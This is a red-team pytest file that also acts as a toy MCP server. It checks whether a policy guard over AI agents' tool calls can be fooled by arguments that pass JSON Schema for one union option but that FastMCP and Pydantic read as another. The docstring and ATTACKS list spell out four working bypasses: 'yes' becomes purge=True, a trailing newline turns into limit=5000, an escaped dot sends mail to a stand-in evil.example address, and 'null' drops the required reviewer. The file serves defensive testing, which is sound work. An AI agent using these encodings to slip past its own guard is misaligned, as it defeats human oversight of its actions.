"""Red team 21: an MCP argument valid for one ``anyOf`` option *by JSON Schema's rules* that the
server (FastMCP: ``pre_parse_json``, then Pydantic in lax mode) reads as another value.

``guards/json_schema_types.py`` now counts an option only where the value is valid for it as it
is (``jsonschema``), and asks all such options to take the value's JSON type. Three ways a
value is valid for an option by JSON Schema's rules and still read otherwise by the server:

* ``format`` is an annotation to ``jsonschema`` (no format checker): ``purge: bool | datetime``
  is ``anyOf [{"type": "boolean"}, {"type": "string", "format": "date-time"}]``, and ``"yes"``
  is valid for the date-time option only. Pydantic's smart union finds no strict match, tries
  the options in order in lax mode, and ``bool`` reads ``"yes"`` as ``True``;
* ``pattern`` is checked by Python's ``re`` in ``jsonschema`` (``$`` matches before a final
  newline) and by Rust's regex in Pydantic (it does not): ``limit: int | Annotated[str,
  Field(pattern=r"^\\w+$")]`` takes ``"5000\\n"`` as the string option to ``jsonschema``;
  Pydantic's string option refuses it and ``int`` reads it (whitespace stripped) as ``5000``;
* FastMCP's ``pre_parse_json`` parses any string sent for a parameter whose annotation is not
  exactly ``str`` as JSON: ``to: list[str] | str`` sent as ``'["boss@evil\\u002eexample"]'``
  is valid for the string option (the policy sees one string, with no ``evil.example`` in
  it), and the server sends to the list ``["boss@evil.example"]``; the same way
  ``reviewer: str | None`` sent as ``"null"`` is a reviewer's name to the policy and ``None``
  (no review) to the tool.

Observed on the branch point: each attack is allowed and the server runs with the value the
policy denies (``purge=True``, ``limit=5000``, ``to=["boss@evil.example"]``, ``reviewer=None``); the
controls (``purge: true``, ``limit: 5000``, ``to: ["boss@evil.example"]``,
``reviewer: null``) are denied.

Run as a script, this file is the MCP server (stdio): ``python this.py LOG``.
"""

from __future__ import annotations

import sys
from datetime import datetime
from pathlib import Path
from typing import TYPE_CHECKING, Annotated, Any

import pytest
from mcp_server_kit import (
    SURFACES,
    policy_engine,
    ran,
    recorder,
    run_server_tool,
)
from pydantic import Field

if TYPE_CHECKING:  # the file is also the MCP server: it starts without the guard
    from langchain_opa_guard import EmbeddedPolicy

POLICY = """package redteam21mcp

import rego.v1

deny contains "no purges" if input.tool.args.purge == true

deny contains "at most 100 rows" if {
	is_number(input.tool.args.limit)
	input.tool.args.limit > 100
}

deny contains "a reviewer is required" if {
	input.tool.name == "publish"
	not is_string(input.tool.args.reviewer)
}

deny contains "nothing may go to evil.example" if {
	walk(input.tool.args, [_, v])
	is_string(v)
	contains(v, "evil.example")
}

decision := {
	"allow": count(deny) == 0,
	"reasons": [{"code": "rt21", "message": m} | some m in deny],
}
"""

ESCAPED = '["boss@evil\\u002eexample"]'


def serve(log: Path) -> None:
    from mcp.server.fastmcp import FastMCP

    server = FastMCP("tickets", log_level="ERROR")

    log_run = recorder(log)

    def record(tool: str, value: Any) -> None:
        log_run(tool, value=value)

    @server.tool(description="Delete a ticket; purge=true erases it now, a time schedules it.")
    def delete(ticket_id: str, purge: bool | datetime = False) -> str:
        record("delete", purge)
        return f"deleted {ticket_id}"

    @server.tool(description="Export rows; limit is a row count or a named preset.")
    def export(table: str, limit: int | Annotated[str, Field(pattern=r"^\w+$")] = 10) -> str:
        record("export", limit)
        return f"exported {table}"

    @server.tool(description="Send a message to one address or a list of addresses.")
    def send(to: list[str] | str, body: str) -> str:
        record("send", to)
        return "sent"

    @server.tool(description="Publish a document; reviewer signs it off (none: unreviewed).")
    def publish(doc: str, reviewer: str | None = None) -> str:
        record("publish", reviewer)
        return f"published {doc}"

    server.run(transport="stdio")


@pytest.fixture
def engine(tmp_path: Path) -> EmbeddedPolicy:
    return policy_engine(tmp_path, "redteam21mcp", POLICY)


CONTROLS = [
    ("delete", {"ticket_id": "T-1", "purge": True}),
    ("export", {"table": "customers", "limit": 5000}),
    ("send", {"to": ["boss@evil.example"], "body": "the numbers"}),
    ("publish", {"doc": "press-release", "reviewer": None}),
]

ATTACKS = [
    ("delete", {"ticket_id": "T-1", "purge": "yes"}, True),
    ("export", {"table": "customers", "limit": "5000\n"}, 5000),
    ("send", {"to": ESCAPED, "body": "the numbers"}, ["boss@evil.example"]),
    ("publish", {"doc": "press-release", "reviewer": "null"}, None),
]


@pytest.mark.parametrize("surface", SURFACES)
@pytest.mark.parametrize(("tool", "args"), CONTROLS, ids=[c[0] for c in CONTROLS])
def test_control_the_plain_value_is_denied(
    engine: EmbeddedPolicy, tmp_path: Path, surface: str, tool: str, args: dict[str, Any]
) -> None:
    log = tmp_path / "ran.jsonl"
    answer = run_server_tool(__file__, log, surface, engine, tool, args)
    assert ran(log) == [], answer.content


@pytest.mark.parametrize("surface", SURFACES)
@pytest.mark.parametrize(
    ("tool", "args", "denied"),
    ATTACKS,
    ids=[
        "format-option-read-as-bool",
        "pattern-newline-read-as-int",
        "pre-parsed-json-text",
        "pre-parsed-null",
    ],
)
def test_a_value_valid_for_one_option_is_decided_as_the_server_reads_it(
    engine: EmbeddedPolicy,
    tmp_path: Path,
    surface: str,
    tool: str,
    args: dict[str, Any],
    denied: Any,
) -> None:
    log = tmp_path / "ran.jsonl"
    answer = run_server_tool(__file__, log, surface, engine, tool, args)
    hits = [r for r in ran(log) if r["value"] == denied]
    assert hits == [], (
        f"the policy allowed {tool}({args!r}); the server ran it with {denied!r}, which the "
        f"policy denies ({answer.content!r:.200})"
    )


if __name__ == "__main__":
    serve(Path(sys.argv[1]))
